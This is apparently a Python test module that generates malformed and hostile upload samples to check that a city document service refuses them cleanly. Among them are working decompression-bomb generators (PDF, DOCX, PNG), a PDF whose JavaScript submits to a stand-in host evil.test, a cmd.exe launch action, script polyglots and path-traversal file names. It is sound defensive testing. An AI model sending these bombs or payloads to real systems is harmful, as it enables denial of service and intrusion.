"""A corpus of malformed and malicious files, built in code at test time (nothing binary
is committed): truncated, encrypted and active PDFs, a huge page count, decompression
bombs (PDF flate streams, a DOCX zip bomb, a PNG pixel bomb), polyglots, files whose
name lies about their content, hostile file names and odd declared content types.

Every sample says whether a city should accept it (``accepted``): the corpus test checks
that refused samples leave nothing behind and that none of them gets a server error."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

import pikepdf

from tests.pdfs import encrypted_pdf, tiny_pdf

BOMB_BYTES = 2 * 1024 ** 3  # what each decompression bomb expands to (2 GiB)
_MIB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    """One hostile upload: its bytes, the name and content type the client declares."""

    key: str
    content: bytes
    file_name: str = "document.pdf"
    content_type: str = "application/pdf"
    accepted: bool = False  # what a city wants: kept (True) or refused with a clear error

    def __repr__(self) -> str:  # pytest ids and failure messages, not megabytes of bytes
        return f"Sample({self.key}, {len(self.content)} bytes)"


def _saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _active_pdf(action: pikepdf.Dictionary) -> bytes:
    """A one-page PDF that runs ``action`` when opened (and names it as document JS)."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(200, 200))
        pdf.Root.OpenAction = pdf.make_indirect(action)
        if action.get("/S") == "/JavaScript":
            pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
                Names=pikepdf.Array([pikepdf.String("start"), pdf.make_indirect(action)])))
        return _saved(pdf)


def javascript_pdf() -> bytes:
    return _active_pdf(pikepdf.Dictionary(
        Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
        JS=pikepdf.String("app.alert('pwned'); this.submitForm('http://evil.test/');")))


def launch_pdf() -> bytes:
    return _active_pdf(pikepdf.Dictionary(
        Type=pikepdf.Name.Action, S=pikepdf.Name.Launch,
        F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))))


def many_pages_pdf(pages: int = 100_000) -> bytes:
    """A PDF whose page tree lists the same page object ``pages`` times (cheap to make,
    expensive for a reader that walks every page)."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(200, 200))
        page = pdf.Root.Pages.Kids[0]
        kids = pikepdf.Array([page] * pages)
        pdf.Root.Pages.Kids = kids
        pdf.Root.Pages.Count = pages
        return _saved(pdf)


@cache
def _deflated(size: int, *, prefix: bytes = b"", fill: bytes = b"\0", raw: bool = False) -> bytes:
    """``prefix`` then ``size`` bytes of ``fill`` deflated (zlib wrapper unless ``raw``),
    made in about a second: the compressed form of one MiB of ``fill`` repeats once the
    compressor's window is flushed, so it is made once and copied."""
    assert size % _MIB == 0
    chunk = fill * _MIB
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(prefix + chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    repeat = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    body = first + repeat * (size // _MIB - 1) + deflate.flush(zlib.Z_FINISH)
    if raw:
        return body
    checksum = zlib.adler32(prefix)
    for _ in range(size // _MIB):
        checksum = zlib.adler32(chunk, checksum)
    return b"\x78\xda" + body + struct.pack(">I", checksum)


def _crc32_of(size: int) -> int:
    crc, chunk = 0, bytes(_MIB)
    for _ in range(size // _MIB):
        crc = zlib.crc32(chunk, crc)
    return crc


def flate_bomb_pdf() -> bytes:
    """A page whose content stream inflates to :data:`BOMB_BYTES` of zeros."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(200, 200))
        stream = pikepdf.Stream(pdf, b"")
        stream.write(_deflated(BOMB_BYTES), filter=pikepdf.Name.FlateDecode)
        pdf.pages[0].Contents = pdf.make_indirect(stream)
        return _saved(pdf, compress_streams=False,
                      stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_stream_bomb_pdf() -> bytes:
    """A PDF whose catalogue, page tree and page sit in an object stream that inflates to
    GiBs of spaces: any reader must inflate it to find the document's root."""
    objects = [b"<< /Type /Catalog /Pages 3 0 R >>",
               b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>"]
    offsets, position = [], 0
    for number, body in zip((2, 3, 4), objects, strict=True):
        offsets.append(f"{number} {position}".encode())
        position += len(body) + 1
    head = b" ".join(offsets) + b" "
    content = head + b" ".join(objects) + b" "
    packed = _deflated(BOMB_BYTES, prefix=content, fill=b" ")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stm_at = len(out)
    out += (b"1 0 obj\n<< /Type /ObjStm /N 3 /First " + str(len(head)).encode()
            + b" /Filter /FlateDecode /Length " + str(len(packed)).encode()
            + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n")
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 1, stm_at, 0)]
    rows += [struct.pack(">BIH", 2, 1, index) for index in range(3)]
    rows.append(struct.pack(">BIH", 1, xref_at, 0))
    table = b"".join(rows)
    out += (b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R /Length "
            + str(len(table)).encode() + b" >>\nstream\n" + table
            + b"\nendstream\nendobj\nstartxref\n" + str(xref_at).encode() + b"\n%%EOF\n")
    return bytes(out)


def docx_zip_bomb() -> bytes:
    """A DOCX (what the sniffer sees first) whose document part inflates to GiBs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.'
                         'org/package/2006/content-types"/>')
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        raw = _deflated(BOMB_BYTES, raw=True)
        crc = _crc32_of(BOMB_BYTES)
        info.CRC, info.compress_size, info.file_size = crc, len(raw), BOMB_BYTES
        offset = out.tell()
        out.write(info.FileHeader(zip64=True))
        out.write(raw)
        info.header_offset = offset
        archive.filelist.append(info)
        archive.NameToInfo[info.filename] = info
        archive.start_dir = out.tell()
        archive._didModify = True  # write the central directory on close
    return out.getvalue()


def png_pixel_bomb(side: int = 50_000) -> bytes:
    """A valid PNG of ``side`` x ``side`` grey pixels (2.5 G pixels for 50,000): tiny on
    disk, gigabytes for whoever decodes it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    row = side + 1  # a filter byte per row
    pixels = zlib.compressobj(9)
    line = bytes(row)
    rows = b"".join(pixels.compress(line) for _ in range(min(side, 64)))  # truncated IDAT
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", rows + pixels.flush()) + chunk(b"IEND", b""))


def pdf_zip_polyglot() -> bytes:
    """A PDF with a ZIP archive (holding an executable) appended: both readers open it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", b"MZ" + bytes(200))
    return tiny_pdf("polyglot") + out.getvalue()


def pdf_html_polyglot() -> bytes:
    """HTML with a script first, a PDF header within the first kilobyte after it."""
    return (b"<html><body><script>alert(document.cookie)</script><!--\n"
            + tiny_pdf("html polyglot") + b"\n--></body></html>")


def windows_executable() -> bytes:
    stub = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return stub + b"PE\x00\x00" + bytes(200)


def samples(max_request_bytes: int) -> Iterator[Sample]:
    """Every sample of the corpus; the over-size one is one byte over the request limit."""
    good = tiny_pdf("a good plan")
    yield Sample("empty_file", b"")
    yield Sample("truncated_pdf", good[: len(good) // 2])
    yield Sample("header_only_pdf", b"%PDF-1.7\n")
    yield Sample("encrypted_pdf", encrypted_pdf())
    yield Sample("javascript_pdf", javascript_pdf())
    yield Sample("launch_action_pdf", launch_pdf())
    yield Sample("huge_page_count_pdf", many_pages_pdf())
    yield Sample("flate_bomb_pdf", flate_bomb_pdf())
    yield Sample("object_stream_bomb_pdf", object_stream_bomb_pdf())
    yield Sample("docx_zip_bomb", docx_zip_bomb(), "report.docx",
                 "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    yield Sample("png_pixel_bomb", png_pixel_bomb(), "photo.png", "image/png")
    yield Sample("pdf_zip_polyglot", pdf_zip_polyglot())
    yield Sample("pdf_html_polyglot", pdf_html_polyglot())
    yield Sample("exe_named_pdf", windows_executable())
    yield Sample("html_named_pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>",
                 content_type="text/html")
    yield Sample("pdf_named_jpg", good, "photo.jpg", "image/jpeg", accepted=True)
    yield Sample("nul_in_file_name", good, "plan\x00.exe.pdf")
    yield Sample("path_traversal_name", good, "../../../../etc/cron.d/plan.pdf", accepted=True)
    yield Sample("very_long_name", good, "plan-" + "x" * 5_000 + ".pdf", accepted=True)
    yield Sample("odd_content_type", good, content_type="application/x-msdownload;;; x=\"",
                 accepted=True)
    yield Sample("over_request_limit", b"%PDF-1.7\n" + bytes(max_request_bytes))
